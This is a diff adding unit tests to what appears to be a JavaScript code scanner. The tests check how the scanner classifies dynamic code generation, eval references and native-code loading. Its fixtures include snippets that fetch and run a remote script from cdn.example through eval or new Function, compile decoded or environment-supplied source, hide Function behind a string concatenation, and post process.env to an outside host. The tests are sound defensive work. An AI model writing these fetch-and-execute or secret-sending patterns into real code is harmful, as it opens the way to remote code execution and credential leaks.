@@ -151,3 +151,73 @@ describe('credential issuers and what counts as a secret variable', () => {
     assert.ok(rules(post('api.search.example', '{ all: process.env }')).includes('net.exfiltration'));
   });
 });
+
+describe('Function compiling source the code builds is code.generated (flagged); loaded or decoded source stays forbidden', () => {
+  it('template and serializer compilers (a template string, a joined parameter list, a spread of arguments) are flagged', () => {
+    for (const lib of [
+      'export const createFunction = (value) => new Function(`return ${value}`)();',
+      'export function compile(params, body) { return Function(...params, \'"use strict";\\n\' + body); }',
+      'export function Evaluate(...args) { return new (globalThis.Function)(...args); }',
+    ]) {
+      assert.deepEqual(rules(lib), ['code.generated'], lib);
+      assert.equal(verdict(lib), 'flagged', lib);
+    }
+  });
+
+  it('source read from a file, downloaded, taken from the environment, decoded, or compiled through an alias is forbidden', () => {
+    for (const bad of [
+      "const fs = require('fs');\nconst code = fs.readFileSync(process.argv[2], 'utf8');\nnew Function('module', code)({});",
+      "async function load() { return (await fetch('https://cdn.example/p.js')).text(); }\nnew Function(await load())();",
+      'new Function(process.env.HOOK_CODE)();',
+      'new Function(atob(globalThis.payload))();',
+      'const F = Function;\nexport const run = (src) => F(src)();',
+      "globalThis['Func' + 'tion'](globalThis.src)();",
+    ]) {
+      assert.ok(rules(bad).includes('code.function-constructor'), bad);
+      assert.equal(verdict(bad), 'forbidden', bad);
+    }
+    assert.match(
+      findings("const fs = require('fs');\nnew Function(fs.readFileSync('x.js', 'utf8'))();")[0]!.message,
+      /from a file it reads/,
+    );
+  });
+
+  it('calling what new Function returned is judged at the new, not a second compile', () => {
+    assert.deepEqual(rules("new Function('a', 'return a + 1')(1);"), ['code.eval-constant']);
+  });
+});
+
+describe('eval and Function kept as values are code.eval-reference (flagged); handed to a call they stay forbidden', () => {
+  it('an intrinsics table, an instanceof test and an alias that is never called are not code generation', () => {
+    const lib =
+      "var INTRINSICS = { '%eval%': eval, '%Function%': Function };\nmodule.exports = function (x) { return x instanceof Function ? INTRINSICS : null; };";
+    assert.deepEqual(rules(lib), ['code.eval-reference', 'code.eval-reference']);
+    assert.equal(verdict(lib), 'flagged');
+    assert.deepEqual(rules('export const isFn = (x) => x instanceof Function;'), []);
+  });
+
+  it('eval handed to a call, or an alias called on a download, is forbidden', () => {
+    assert.deepEqual(rules("fetch('https://cdn.example/p.js').then((r) => r.text()).then(eval);"), ['code.eval']);
+    assert.deepEqual([...new Set(rules('Reflect.construct(Function, [globalThis.src]);'))], ['code.function-constructor']);
+    const alias = "const box = { run: eval };\nbox.run(await (await fetch('https://cdn.example/p.js')).text());";
+    assert.equal(verdict(alias), 'forbidden');
+    assert.ok(rules(alias).includes('code.eval'));
+  });
+});
+
+describe('native code: an addon is refused at runtime (flagged); a foreign-function interface is forbidden', () => {
+  it('a native addon loaded through bindings or node-gyp-build is flagged and says the runtime refuses it', () => {
+    const f = findings("const db = require('bindings')('better_sqlite3.node');\nmodule.exports = db;");
+    assert.deepEqual(
+      f.map((x) => x.ruleId),
+      ['native.addon'],
+    );
+    assert.equal(f[0]!.classification, 'flagged');
+    assert.match(f[0]!.message, /refused at runtime/);
+  });
+
+  it('koffi and ffi-napi (any C function of any library) are native.ffi, forbidden', () => {
+    assert.deepEqual(rules("const koffi = require('koffi');\nkoffi.load('libc.so.6');"), ['native.ffi']);
+    assert.equal(verdict("const ffi = require('ffi-napi');\nffi.Library('libc', {});"), 'forbidden');
+  });
+});
